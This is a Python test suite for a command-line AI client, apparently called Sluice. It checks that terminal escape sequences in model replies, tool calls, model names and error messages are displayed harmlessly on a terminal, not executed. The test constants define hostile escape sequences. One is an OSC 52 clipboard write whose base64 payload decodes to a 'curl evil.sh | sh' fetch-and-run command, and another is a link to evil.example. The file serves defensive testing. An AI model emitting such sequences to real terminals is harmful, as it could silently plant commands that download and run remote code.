"""Issue 12.2: a reply, its reasoning, a tool call, a model id or an error message carrying terminal
control sequences (title, clear screen, hidden text, links, OSC 52 clipboard writes) must not reach a
terminal raw. On a terminal they are shown visibly; piped, text stays byte-exact; `--json` escapes C1 and
the line separators (issue 11 §6.7)."""

from __future__ import annotations

import json
import subprocess
import sys

from tests.hostile.conftest import on_terminal
from tests.integration.conftest import ROOT, Sluice
from tests.support.faults import ROLE_EVENT, SSE_HEADERS
from tests.support.server import (
    Reply,
    TestServer,
    completion_chunk,
    json_error_reply,
    models_reply,
    sse_event,
    sse_reply,
)

TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
CSI_8BIT = "\x9b31m"  # C1 CSI: some terminals obey it like ESC [
ATTACK = f"Hello{TITLE}{CLEAR} there{CLIPBOARD}{LINK}{CSI_8BIT}\r!"


def _no_control(text: str) -> None:
    bad = sorted(
        {f"U+{ord(c):04X}" for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F}
    )
    assert bad == [], f"control characters reached the terminal: {bad}"


def _attack_reply() -> Reply:
    tool = {
        "index": 0,
        "id": "call_1",
        "type": "function",
        "function": {"name": f"run{TITLE}", "arguments": CLEAR},
    }
    chunks = [
        ROLE_EVENT,
        sse_event(completion_chunk({"reasoning_content": f"thinking{CLIPBOARD}"})),
        sse_event(completion_chunk({"content": ATTACK})),
        sse_event(completion_chunk({"tool_calls": [tool]})),
        sse_event(completion_chunk({}, "tool_calls")),
        sse_event("[DONE]"),
    ]
    return Reply(headers=dict(SSE_HEADERS), chunks=chunks)


def test_ask_on_a_terminal_shows_control_characters_instead_of_obeying_them(
    local: Sluice, server: TestServer
) -> None:
    server.queue(_attack_reply())
    ran = on_terminal(local, "ask", "hi")
    assert ran.code == 0, ran.output
    # The ANSI dimming of the reasoning is Sluice's own; strip it before looking for gateway sequences.
    shown = ran.output.replace("\x1b[2m", "").replace("\x1b[0m", "")
    _no_control(shown)
    assert "Hello␛]0;pwned␇␛[2J␛[H there" in shown  # visible, in the user's reading order
    assert "thinking␛]52;c;" in shown and "⟨9B⟩31m" in shown and "␍!" in shown
    assert "[tool call run␛]0;pwned␇(␛[2J␛[H)]" in shown


def test_error_text_on_a_terminal_is_shown_not_obeyed(local: Sluice, server: TestServer) -> None:
    server.queue(json_error_reply(401, f"Invalid key{TITLE}{CLEAR}"))
    ran = on_terminal(local, "ask", "hi")
    assert ran.code == 1
    _no_control(ran.output)
    assert "Invalid key␛]0;pwned␇␛[2J␛[H" in ran.output


def test_models_and_export_on_a_terminal(local: Sluice, server: TestServer) -> None:
    server.queue(models_reply(["gpt-4o", f"evil{CLIPBOARD}"]), path="/v1/models")
    ran = on_terminal(local, "models")
    assert ran.code == 0, ran.output
    _no_control(ran.output)
    assert "evil␛]52;c;" in ran.output

    server.queue(sse_reply([ATTACK]))
    assert local.run("ask", "hi").returncode == 0
    ran = on_terminal(local, "export", "--last")
    assert ran.code == 0, ran.output
    _no_control(ran.output)
    assert "Hello␛]0;pwned␇" in ran.output


def test_piped_output_is_byte_exact(local: Sluice, server: TestServer) -> None:
    """The decision (README, docs/reliability.md): a pipe or a file gets what the model sent."""
    server.queue(sse_reply([ATTACK]))
    done = subprocess.run(
        [sys.executable, "-m", "app", "ask", "hi"], capture_output=True, env=local.env, cwd=ROOT, timeout=60
    )
    assert done.returncode == 0
    assert done.stdout == (ATTACK + "\n").encode()  # bytes: text mode would read the "\r" as a newline


def test_json_lines_escape_c1_and_line_separators(local: Sluice, server: TestServer) -> None:
    text = f"a\u2028b\u2029c\u0085d{CSI_8BIT}e\x7f"
    server.queue(sse_reply([text], usage={"prompt_tokens": 1, "completion_tokens": 1}))
    done = local.run("ask", "--json", "hi")
    assert done.returncode == 0, done.stderr
    for char in ("\u2028", "\u2029", "\u0085", "\x9b", "\x7f"):
        assert char not in done.stdout
    # Readers that split on every Unicode line break (str.splitlines, old JavaScript): one event a line.
    events = [json.loads(line) for line in done.stdout.splitlines()]
    assert [e["type"] for e in events] == ["content", "usage", "done"]
    assert events[0]["text"] == text  # escaped, not lost

    exported = local.run("export", "--last", "--format", "json").stdout
    assert "\u2028" not in exported and "\x9b" not in exported
    assert json.loads(exported)["messages"][1]["content"] == text
